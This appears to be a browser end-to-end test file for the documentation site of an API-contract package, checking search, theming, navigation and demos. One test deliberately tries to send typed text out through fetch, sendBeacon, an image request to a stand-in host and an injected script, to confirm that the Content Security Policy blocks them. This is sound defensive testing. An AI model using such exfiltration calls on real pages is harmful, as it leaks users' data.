import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { base, openSite, phone, type Site } from '../browser.ts'

let site: Site
beforeAll(async () => {
  site = await openSite()
})
afterAll(() => site.close())

describe('the search', () => {
  it('finds text of every part of the site, marks it, and is used with the keyboard', async () => {
    const { page } = await site.open('introduction.html')
    await page.keyboard.press('ControlOrMeta+k')
    await page.locator('#localsearch-input').waitFor()
    for (const words of ['PUT', 'Retry strategy', 'classifyRun', 'offset', 'benchmark', 'duplicate-key']) {
      await page.locator('#localsearch-input').fill(words)
      const [word = ''] = words.split(/\W/)
      await page
        .locator('.VPLocalSearchBox .result mark')
        .filter({ hasText: new RegExp(word, 'i') })
        .first()
        .waitFor()
    }
    // The order is that of the site's own options.
    await page.locator('#localsearch-input').fill('offset too large')
    await page.locator('.VPLocalSearchBox .result').first().and(page.locator('[href*="concepts"]')).waitFor()
    await page.locator('#localsearch-input').fill('frequencyOffset')
    await page.locator('.VPLocalSearchBox .result.selected').waitFor()
    await page.keyboard.press('Enter')
    await page.waitForURL(/#/)
    await page.close()
  })

  it('reports that nothing was found', async () => {
    const { page } = await site.open('introduction.html')
    await page.keyboard.press('ControlOrMeta+k')
    await page.locator('#localsearch-input').fill('qqqqzzzz')
    expect(await page.locator('.VPLocalSearchBox .no-results').innerText()).toContain('qqqqzzzz')
    await page.close()
  })
})

describe('the theme', () => {
  it('is dark before the scripts of the site have loaded, so that no light page flashes', async () => {
    const { page } = await site.open('introduction.html')
    await page.evaluate(() => {
      localStorage.setItem('vitepress-theme-appearance', 'dark')
    })
    await page.route('**/*.js', (route) => route.abort())
    await page.reload()
    expect(await page.evaluate(() => document.documentElement.className)).toContain('dark')
    await page.close()
  })

  it('has a switch, whose choice the next page keeps', async () => {
    const { page } = await site.open('introduction.html')
    await page.locator('.VPNavBarAppearance .VPSwitchAppearance').click()
    await page.goto(`${site.origin}${base}concepts.html`)
    expect(await page.evaluate(() => document.documentElement.className)).toContain('dark')
    await page.close()
  })
})

describe('a page', () => {
  it('has a link to the next page, a link to edit it, and an outline that follows scrolling', async () => {
    const { page } = await site.open('concepts.html')
    expect(await page.locator('.pager-link.next').getAttribute('href')).toMatch(/replace-and-partial-update/)
    expect(await page.locator('.edit-link-button').getAttribute('href')).toMatch(/edit\/main\/docs\/concepts\.md$/)
    const last = page.locator('.vp-doc h2').last()
    await last.scrollIntoViewIfNeeded()
    await page.evaluate(() => {
      scrollTo(0, document.body.scrollHeight)
    })
    const title = (await last.innerText()).replace(/\W+$/, '')
    await page.locator('.VPDocAsideOutline .outline-link.active', { hasText: title }).waitFor()
    await page.close()
  })

  it('opens a nested field that a link leads to', async () => {
    const { page } = await site.open('reference/icmp-monitor.html#request-assertions-target')
    await page.locator('#request-assertions-target').waitFor({ state: 'visible' })
    await page.close()
  })

  it('shows only the fields of an update, or of a response', async () => {
    const { page } = await site.open('reference/icmp-monitor.html')
    await page.getByText('In an update', { exact: true }).click()
    await page.locator('#created_at').waitFor({ state: 'hidden' })
    await page.getByText('In a response', { exact: true }).click()
    await page.locator('#created_at').waitFor({ state: 'visible' })
    await page.close()
  })

  it('copies a code sample in the chosen language', async () => {
    const { page } = await site.open('reference/update-icmp-monitor.html')
    await page.locator('.vp-code-group label', { hasText: 'curl' }).click()
    expect(await page.locator('.vp-code-group .active').innerText()).toContain('--data')
    expect(await page.locator('.vp-code-group .active button.copy').getAttribute('title')).toMatch(/Copy/)
    await page.close()
  })

  it('reports that it does not exist, and links to other pages', async () => {
    const { page } = await site.open('reference/none.html')
    await page.getByText('PAGE NOT FOUND').waitFor()
    await page.getByRole('link', { name: 'Go to the first page' }).click()
    await page.locator('.VPHome').waitFor()
    await page.close()
  })

  it('is readable without JavaScript, and the try-it page asks for JavaScript', async () => {
    const context = await site.browser.newContext({ javaScriptEnabled: false })
    const page = await context.newPage()
    await page.goto(`${site.origin}${base}reference/icmp-monitor.html`)
    expect(await page.locator('#frequency').innerText()).toContain('frequency')
    await page.locator('details.inner summary').first().click()
    await page.goto(`${site.origin}${base}try-it.html`)
    expect((await page.locator('noscript').allTextContents()).join(' ')).toContain('This page needs JavaScript.')
    await context.close()
  })

  it('cannot send typed text, because its policy forbids requests', async () => {
    const { page } = await site.open('try-it.html')
    const blocked = await page.evaluate(async () => {
      const directives: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective))
      await fetch('/collect', { method: 'POST', body: 'text' }).catch(() => undefined)
      navigator.sendBeacon('/collect', 'text')
      new Image().src = 'https://elsewhere.example/?text'
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'stolen = 1' }))
      await new Promise((done) => setTimeout(done, 300))
      return directives
    })
    expect(new Set(blocked)).toEqual(new Set(['connect-src', 'img-src', 'script-src-elem']))
    await page.close()
  })
})

describe('the OpenAPI page', () => {
  it('opens a folded field that a link leads to', async () => {
    const { page } = await site.open('openapi.html#tag/monitors/PUT/v1/checks/icmp/{id}.body.maxPacketLossThreshold')
    await page.frameLocator('iframe').locator('[id$="{id}.body.maxPacketLossThreshold"]').waitFor()
    await page.close()
  })

  it('has no field for a token, because it sends no requests', async () => {
    const { page } = await site.open('openapi.html')
    const reference = page.frameLocator('iframe')
    await reference.getByText('Update an ICMP monitor').first().waitFor()
    await reference.getByText('Send the API key as a bearer credential').first().waitFor()
    expect(await reference.getByPlaceholder('Token').filter({ visible: true }).count()).toBe(0)
    await page.close()
  })
})

describe('the first page', () => {
  it('copies the command that installs the package', async () => {
    const { page } = await site.open('index.html')
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.locator('.install button.copy').click()
    await page.locator('.install button.copied').waitFor()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('npm install monitor-contract')
    await page.close()
  })

  it.each([{ width: 1280, scheme: 'light' } as const, phone])(
    'shows issues while text is typed, and fixes one with a click: %o',
    async (view) => {
      const { page } = await site.open('index.html', view)
      expect(await page.locator('.result-bar output').innerText()).toBe('Invalid: 4 errors, 1 warning')
      await page.locator('.home-demo textarea:not([readonly]), .home-demo .cm-content').waitFor()
      await page.getByRole('button', { name: 'Use 50' }).click()
      await page.getByText('Invalid: 3 errors, 1 warning').waitFor()
      await page.locator('.cm-content').focus()
      await page.keyboard.press('ControlOrMeta+a')
      await page.keyboard.insertText('{ "heartbeat": {}, "script": "" }')
      await page.getByText('Valid: no errors, no warnings').waitFor()
      await page.close()
    },
  )
})
